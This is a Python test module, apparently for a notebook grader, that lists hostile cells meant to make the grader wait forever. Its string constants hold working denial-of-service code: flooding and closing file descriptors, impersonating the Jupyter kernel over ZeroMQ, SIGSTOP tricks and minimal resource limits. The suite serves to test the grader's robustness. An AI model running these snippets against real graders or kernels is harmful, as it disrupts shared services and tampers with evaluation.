"""Attacks on what the grader waits for, so that it would wait for ever."""

from __future__ import annotations

import resource
from collections.abc import Iterator, Sequence
from itertools import product

from attacks.for_points import ANY_WITHOUT_POINTS
from attacks.notebooks import POINTS, Attack, Attacker
from support.descriptors import OWNED

# What is done to descriptors: each leaves the cell, so that the grader goes on with
# what is left of the connection.
ACTS = r"""
import resource, signal, subprocess, sys, threading, time
def fill(number):
    os.set_blocking(number, False)
    for _ in range(1000):
        os.write(number, bytes(range(256)) * 99)
def garble(number):
    os.set_blocking(number, False)
    os.write(number, b"\xff" * 65536)
def close(number):
    os.close(number)
def flood(number):
    def endless():
        while True:
            try:
                os.write(number, b"\xff" * 65536)
            except OSError:
                time.sleep(0.01)
    threading.Thread(target=endless, daemon=True).start()
def stop_reading(number):
    os.dup(number)  # so that the other end notices nothing
    os.dup2(os.pipe()[0], number)
def drip(number):
    own = os.dup(number)
    def slowly():
        while True:
            try:
                os.write(own, b"\x01")
            except OSError:
                pass
            time.sleep(1)
    threading.Thread(target=slowly, daemon=True).start()
def each(act, *kinds):
    for kind in kinds or list(owned):
        for number in owned.get(kind, ()):
            try:
                act(number)
            except OSError:
                pass
"""
ACTED = ("fill", "close", "flood", "stop_reading", "drip")
KINDS = (
    "/dev/null",
    "pipe",
    "log",
    *(f"listens on {c}" for c in ("shell", "iopub", "stdin", "control", "hb")),
    *(f"connected by {channel}" for channel in ("shell", "iopub", "control")),
    "connected with itself",
    "eventfd",
    "eventpoll",
)

# Takes the place of the kernel on one of the grader's connections.
IMPOSTOR = r"""
import zmq
kernel = get_ipython().kernel
session, ours = kernel.session, kernel.get_parent()["header"]["session"].encode()
def place_of(channel):
    path = f"{app.ip}-{getattr(app, channel + '_port')}"
    os.unlink(path)
    return path
def cut(channel):
    for number in owned[f"connected by {channel}"]:
        with socket.socket(fileno=os.dup(number)) as connection:
            connection.shutdown(socket.SHUT_RDWR)
def answer(act):
    '''Answer each of the grader's requests by an act.'''
    router = zmq.Context().socket(zmq.ROUTER)
    router.bind(f"ipc://{place_of('shell')}")
    def serve():
        while True:
            names, parts = session.feed_identities(router.recv_multipart())
            act(router, names, session.deserialize(parts))
    threading.Thread(target=serve, daemon=True).start()
    cut("shell")
def send(router, names, kind, parent):
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}}
    session.send(router, kind, content, parent=parent, ident=names)
def speak(channel, said):
    '''Say bytes to who connects, whatever comes back.'''
    listening = socket.socket(socket.AF_UNIX)
    listening.bind(place_of(channel))
    listening.listen()
    def serve():
        while True:
            connection = listening.accept()[0]
            threading.Thread(target=said, args=[connection], daemon=True).start()
    threading.Thread(target=serve, daemon=True).start()
    cut(channel)
# How a connection of ZeroMQ begins, and a message of 2 GB.
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
def ready(kind):
    said = b"\x05READY\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind.encode()
    return b"\x04" + bytes([len(said)]) + said
def two_gigabytes(kind):
    def say(connection):
        begin = GREETING + ready(kind)
        connection.sendall(begin + b"\x02" + (2**31).to_bytes(8, "big"))
        while True:
            connection.sendall(b"x" * 65536)
    return say
def drips(kind):
    def say(connection):
        for number in GREETING + ready(kind):
            connection.sendall(bytes([number]))
            time.sleep(1)
    return say
"""

FOREVER = "\nwhile True: pass"
LEAST = {"RLIMIT_CPU": 1, "RLIMIT_RTTIME": 1}
LIMITED = sorted(name for name in dir(resource) if name.startswith("RLIMIT_"))


def _attack(name: str, code: str) -> Attack:
    return Attack(name, code, statuses=ANY_WITHOUT_POINTS, tried=False)


def _lowered(name: str, then: str = "") -> Attack:
    least = LEAST.get(name, 0)
    code = f"resource.setrlimit(resource.{name}, ({least}, {least}))"
    return _attack(f"{name} at its least{', then a loop' if then else ''}", code + then)


def _all_at_once() -> Iterator[Attack]:
    # The one that once held up a batch: the grader's next request was never sent.
    yield _attack("garbage into every descriptor", "each(garble)")
    yield _attack("fill every descriptor, then a loop", f"each(fill){FOREVER}")
    for act in ACTED[1:]:
        yield _attack(f"{act} every descriptor", f"each({act})")


def _each_alone() -> Iterator[Attack]:
    for act, kind in product(ACTED, KINDS):
        yield _attack(f"{act} {kind}", f"each({act}, {kind!r})")


STOPPED_SOON = """
def stop():
    time.sleep(0.3)
    os.kill(os.getpid(), signal.SIGSTOP)
threading.Thread(target=stop).start()
"""
STOPPED_CHILDREN = """
for _ in range(3):
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    child.send_signal(signal.SIGSTOP)
"""
ENDLESS_REPLIES = """
def endless(router, names, message):
    while True:
        send(router, names, "execute_reply", {"msg_id": "another"})
answer(endless)
"""
ENDLESS_OUTPUT = """
def endless():
    parent = kernel.get_parent()
    while True:
        session.send(
            kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 9999},
            parent=parent,
        )
threading.Thread(target=endless, daemon=True).start()
"""
REPLIES_TWICE = """
def twice(router, names, message):
    kind = message["msg_type"].replace("request", "reply")
    for _ in range(2):
        send(router, names, kind, message["header"])
answer(twice)
"""
OUT_OF_ORDER = """
before = []
def out_of_order(router, names, message):
    before.append(message["header"])
    for parent in before[-2::-1]:
        send(router, names, "execute_reply", parent)
answer(out_of_order)
"""
NO_REPLIES = "answer(lambda *_: None)"
DIES_BEFORE_ITS_REPLY = "answer(lambda *_: os._exit(0))"
QUICK = (
    *_all_at_once(),
    _lowered("RLIMIT_NOFILE", FOREVER),
    _attack("stops itself a moment later", STOPPED_SOON),
    _attack(
        "announces 2 GB in place of a reply", "speak('shell', two_gigabytes('ROUTER'))"
    ),
    _attack("replies to another request, without end", ENDLESS_REPLIES),
    _attack("output without end after the cell", ENDLESS_OUTPUT),
    _attack("dies between a request and its reply", DIES_BEFORE_ITS_REPLY),
)
SLOW = (
    _attack("fill every descriptor", "each(fill)"),
    *_each_alone(),
    *(_lowered(name) for name in LIMITED),
    _attack("stops itself", "os.kill(os.getpid(), signal.SIGSTOP)"),
    _attack("stops its children", STOPPED_CHILDREN),
    _attack(
        "announces 2 GB in place of an output", "speak('iopub', two_gigabytes('PUB'))"
    ),
    _attack("a byte a second in place of a reply", "speak('shell', drips('ROUTER'))"),
    _attack("a byte a second in place of an output", "speak('iopub', drips('PUB'))"),
    _attack("each reply twice", REPLIES_TWICE),
    _attack("replies out of order", OUT_OF_ORDER),
    _attack("no reply at all", NO_REPLIES),
)


def attackers(name: str, attacks: Sequence[Attack]) -> list[Attacker]:
    """As many learners as it takes to try all of them, one in each task.

    Args:
        name: how their names begin.
        attacks: what they try.
    """
    first = [OWNED + ACTS + IMPOSTOR]
    return [
        Attacker(f"{name}-{at:03}", dict(zip(POINTS, attacks[at:])), first)
        for at in range(0, len(attacks), len(POINTS))
    ]
